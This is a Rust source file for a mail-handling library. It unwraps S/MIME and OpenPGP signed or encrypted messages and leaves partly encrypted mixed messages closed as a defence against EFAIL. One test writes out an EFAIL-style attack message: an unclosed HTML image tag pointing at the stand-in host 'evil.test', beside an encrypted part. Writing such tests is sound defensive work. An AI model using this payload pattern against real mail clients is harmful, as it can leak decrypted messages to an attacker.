//! A received mail is taken apart layer by layer, and what may be said about it is written down.
//!
//! Only a mail that is protected as a whole is opened: an encrypted part beside other parts stays closed, because
//! the other parts could carry what was secret away (EFAIL). What comes out replaces the content; the fields of the
//! mail stay those that came in the clear.

use std::borrow::Cow;

use crate::{
    Keyring, Kind, Proof, Secrecy, State, Verdict,
    entity::{Entity, content_fields, mail_fields},
    limits::LAYERS,
    openpgp, smime,
};

/// A mail after its layers are taken off.
#[derive(Clone, Debug)]
pub struct Opened<'a> {
    /// The mail to be shown: as it came, or with the content that was signed or secret in place of the wrapping.
    pub mail: Cow<'a, [u8]>,
    /// What may be said about it; none when it is neither signed nor encrypted.
    pub verdict: Option<Verdict>,
}

/// What a reader knows while the layers come off.
pub(crate) struct Reader<'a> {
    pub keyring: &'a Keyring,
    /// The address in From, in lower case.
    pub from: Option<String>,
    /// The second at which the mail came in, since 1970.
    pub at: i64,
}

impl Reader<'_> {
    pub(crate) fn known_certificates(&self) -> Vec<smime::Certificate> {
        self.keyring.public(Kind::Smime).filter_map(|(_, der)| smime::Certificate::read(der).ok()).collect()
    }
}

/// One layer that was taken off, or could not be.
pub(crate) struct Peeled {
    pub kind: Kind,
    pub proof: Option<Proof>,
    pub secrecy: Option<Secrecy>,
    /// The entity within; none when it stays closed or cannot be read.
    pub inner: Option<Vec<u8>>,
}

/// Opens a mail that came in at the second `at` since 1970. Never fails: what cannot be opened stays as it came.
#[must_use]
pub fn open<'a>(raw: &'a [u8], keyring: &Keyring, at: i64) -> Opened<'a> {
    let outer = Entity::read(raw);
    let reader = Reader { keyring, from: outer.from(), at };
    let mut verdict: Option<Verdict> = None;
    let mut inner: Option<Vec<u8>> = None;
    for _ in 0..LAYERS {
        let entity = Entity::read(inner.as_deref().unwrap_or(raw));
        let Some(peeled) = peel(&entity, &reader) else { break };
        let content = peeled.inner.clone();
        verdict = Some(merged(verdict, peeled));
        match content {
            Some(content) => inner = Some(content),
            None => break,
        }
    }
    let mail = inner.map_or(Cow::Borrowed(raw), |inner| Cow::Owned(with_content(outer.header(), &inner)));
    Opened { mail, verdict }
}

/// Whether a mail is signed or encrypted at all; cheap for the many that are not.
#[must_use]
pub fn is_protected(raw: &[u8]) -> bool {
    open(raw, &Keyring::default(), 0).verdict.is_some()
}

/// The inner signature counts more than the outer one; encryption of any layer is encryption.
fn merged(before: Option<Verdict>, peeled: Peeled) -> Verdict {
    let (signature, encryption) = before.map_or((None, None), |verdict| (verdict.signature, verdict.encryption));
    Verdict {
        kind: peeled.kind,
        signature: peeled.proof.or(signature),
        // A closed layer says more than an opened one around it.
        encryption: peeled.secrecy.or(encryption),
    }
}

/// The fields of the mail with another content.
fn with_content(header: &[u8], inner: &[u8]) -> Vec<u8> {
    let entity = Entity::read(inner);
    let mut mail = mail_fields(header);
    mail.extend_from_slice(b"MIME-Version: 1.0\r\n");
    mail.extend_from_slice(&content_fields(entity.header()));
    mail.extend_from_slice(b"\r\n");
    mail.extend_from_slice(entity.body());
    mail
}

fn peel(entity: &Entity<'_>, reader: &Reader<'_>) -> Option<Peeled> {
    let mime = entity.mime();
    match mime.as_str() {
        "multipart/signed" => peel_signed(entity, reader),
        "multipart/encrypted" => {
            let parts = entity.parts()?;
            let [_, message] = parts.as_slice() else { return Some(closed(Kind::Pgp)) };
            Some(openpgp::peel_encrypted(message, reader))
        }
        "application/pkcs7-mime" | "application/x-pkcs7-mime" => smime::peel_opaque(entity, reader),
        // Some servers lose the type and keep the name.
        "application/octet-stream" | "binary/octet-stream" if entity.file_name().ends_with(".p7m") => {
            smime::peel_opaque(entity, reader)
        }
        "text/plain" => openpgp::peel_inline(entity, reader),
        mime if mime.starts_with("multipart/") => peel_mixed(entity, reader),
        _ => None,
    }
}

fn peel_signed(entity: &Entity<'_>, reader: &Reader<'_>) -> Option<Peeled> {
    let parts = entity.parts()?;
    let kind = protocol(entity.parameter("protocol"))
        .or_else(|| parts.get(1).and_then(|part| protocol(Some(&Entity::read(part).mime()))))?;
    let peeled = match kind {
        Kind::Smime => smime::peel_detached(&parts, reader),
        Kind::Pgp => openpgp::peel_detached(&parts, reader),
    };
    // A signed mail has exactly two parts (RFC 1847 §2.1); whatever is more was added on the way.
    let only_part = || Peeled { kind, proof: Some(Proof::of(State::OnlyPart)), secrecy: None, inner: None };
    Some(peeled.unwrap_or_else(only_part))
}

fn protocol(value: Option<&str>) -> Option<Kind> {
    let value = value?.to_ascii_lowercase();
    if value.contains("pkcs7-signature") {
        Some(Kind::Smime)
    } else {
        value.contains("pgp-signature").then_some(Kind::Pgp)
    }
}

/// A mixed mail may hold a protected part beside others, as mailing lists make it; Exchange makes an encrypted
/// mail of OpenPGP a mixed one with an empty text before it.
fn peel_mixed(entity: &Entity<'_>, reader: &Reader<'_>) -> Option<Peeled> {
    let parts = entity.parts()?;
    let inner: Vec<Entity<'_>> = parts.iter().map(|part| Entity::read(part)).collect();
    let is_version = |entity: &Entity<'_>| entity.mime() == "application/pgp-encrypted";
    let is_blank =
        |entity: &Entity<'_>| entity.mime().starts_with("text/") && entity.body().iter().all(u8::is_ascii_whitespace);
    let filled: Vec<usize> = (0..inner.len()).filter(|&at| inner.get(at).is_some_and(|part| !is_blank(part))).collect();
    if let [version, message] = filled.as_slice()
        && inner.get(*version).is_some_and(is_version)
    {
        return Some(openpgp::peel_encrypted(parts.get(*message)?, reader));
    }
    inner.iter().find_map(|part| match part.mime().as_str() {
        "application/pgp-encrypted" | "multipart/encrypted" => Some(closed(Kind::Pgp)),
        "multipart/signed" => {
            let kind = protocol(part.parameter("protocol"))?;
            Some(Peeled { kind, proof: Some(Proof::of(State::OnlyPart)), secrecy: None, inner: None })
        }
        "application/pkcs7-mime" | "application/x-pkcs7-mime" => {
            let hides =
                part.parameter("smime-type").is_some_and(|kind| kind.to_ascii_lowercase().contains("enveloped"));
            Some(if hides {
                closed(Kind::Smime)
            } else {
                let proof = Some(Proof::of(State::OnlyPart));
                Peeled { kind: Kind::Smime, proof, secrecy: None, inner: None }
            })
        }
        _ => None,
    })
}

/// An encrypted part that stays closed.
const fn closed(kind: Kind) -> Peeled {
    Peeled { kind, proof: None, secrecy: Some(Secrecy::OnlyPart), inner: None }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn an_ordinary_mail_stays_as_it_is() {
        let raw = b"From: a@b.test\r\nContent-Type: text/plain\r\n\r\nhello";
        let opened = open(raw, &Keyring::default(), 0);
        assert!(opened.verdict.is_none() && matches!(opened.mail, Cow::Borrowed(_)));
    }

    #[test]
    fn an_encrypted_part_beside_others_stays_closed() {
        let raw = b"From: a@b.test\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n\
            <img src=\"http://evil.test/\r\n--b\r\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data\r\n\r\nAAAA\r\n--b--\r\n";
        let opened = open(raw, &Keyring::default(), 0);
        assert_eq!(opened.verdict.and_then(|verdict| verdict.encryption), Some(Secrecy::OnlyPart));
        assert!(matches!(opened.mail, Cow::Borrowed(_)));
    }

    #[test]
    fn a_part_that_was_added_to_a_signed_mail_takes_the_proof_away() {
        let raw = b"From: a@b.test\r\nContent-Type: multipart/signed; protocol=\"application/pgp-signature\"; boundary=b\r\n\r\n\
            --b\r\n\r\none\r\n--b\r\nContent-Type: application/pgp-signature\r\n\r\nx\r\n--b\r\n\r\nadded\r\n--b--\r\n";
        let opened = open(raw, &Keyring::default(), 0);
        let state = opened.verdict.and_then(|verdict| verdict.signature).map(|proof| proof.state);
        assert_eq!(state, Some(State::OnlyPart));
    }

    #[test]
    fn text_around_armour_takes_the_proof_away() {
        let raw = b"From: a@b.test\r\n\r\nread this first\r\n-----BEGIN PGP SIGNED MESSAGE-----\r\nHash: SHA256\r\n\r\nhello\r\n\
            -----BEGIN PGP SIGNATURE-----\r\n\r\nAAAA\r\n-----END PGP SIGNATURE-----\r\n";
        let opened = open(raw, &Keyring::default(), 0);
        let state = opened.verdict.and_then(|verdict| verdict.signature).map(|proof| proof.state);
        assert_eq!(state, Some(State::OnlyPart));
    }

    proptest! {
        #[test]
        fn any_bytes_are_opened_or_left(bytes in proptest::collection::vec(any::<u8>(), 0..2_000), kind in 0_usize..6) {
            let types = [
                "application/pkcs7-mime", "text/plain", "multipart/mixed; boundary=b",
                "multipart/signed; boundary=b; protocol=\"application/pgp-signature\"",
                "multipart/encrypted; boundary=b", "multipart/signed; boundary=b; protocol=\"application/pkcs7-signature\"",
            ];
            let mut raw = format!("From: a@b.test\r\nContent-Type: {}\r\n\r\n--b\r\n", types[kind]).into_bytes();
            raw.extend_from_slice(&bytes);
            let _ = open(&raw, &Keyring::default(), 0);
        }
    }
}
